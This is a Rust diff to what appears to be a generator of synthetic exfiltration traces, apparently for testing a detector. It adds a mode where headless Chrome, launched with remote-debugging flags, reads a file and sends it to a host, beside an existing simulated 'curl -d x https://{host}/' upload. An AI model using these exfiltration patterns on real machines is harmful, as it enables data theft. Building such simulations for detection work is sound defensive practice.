@@ -1,6 +1,6 @@
 //! The last act: somebody sends.
 
-use super::cast::{CURL, LAUNCHD, SCP};
+use super::cast::{CHROME, CHROME_HELPER, CURL, LAUNCHD, SCP};
 use super::play::Play;
 use super::scene::{SECOND, Scene, delay};
 use super::theft::{Break, Method, Trace};
@@ -25,6 +25,7 @@ impl Play<'_> {
                 self.scene.spawn(self.now, parent, CURL, &format!("curl -d x https://{host}/"))
             }
             (Method::Direct | Method::PackAndSend | Method::Secret | Method::Pipeline | Method::Entrusted, Some(pid)) => pid,
+            (Method::Driven, Some(pid)) => self.browser(pid, host, file),
             (Method::Daemon, Some(pid)) => {
                 if self.random.chance(50) {
                     self.scene.exec(self.now, pid, sender, &argv);
@@ -50,6 +51,19 @@ impl Play<'_> {
                 pid
             }
         }
+    }
+
+    /// A browser that is told to send a file, or that somebody uses; a process of its own may send for it.
+    fn browser(&mut self, collector: u32, host: &str, file: &str) -> u32 {
+        let orders =
+            ["--headless=new --user-data-dir=/private/tmp/p --remote-debugging-port=9222", "--headless", "--remote-debugging-port=1337"];
+        let orders = if self.plan.broken == Some(Break::Undriven) { "" } else { self.random.pick(&orders) };
+        let parent = if self.random.chance(60) { collector } else { self.scene.there_is(self.now, "launchd", 0, LAUNCHD) };
+        let browser = self.scene.spawn(self.now, parent, CHROME, &format!("Chrome {orders} https://{host}/"));
+        let helper =
+            self.random.chance(60).then(|| self.scene.spawn(self.now + SECOND / 50, browser, CHROME_HELPER, "helper --type=utility"));
+        self.read_by_sender(browser, file);
+        helper.unwrap_or(browser)
     }
 
     fn read_by_sender(&mut self, pid: u32, file: &str) {
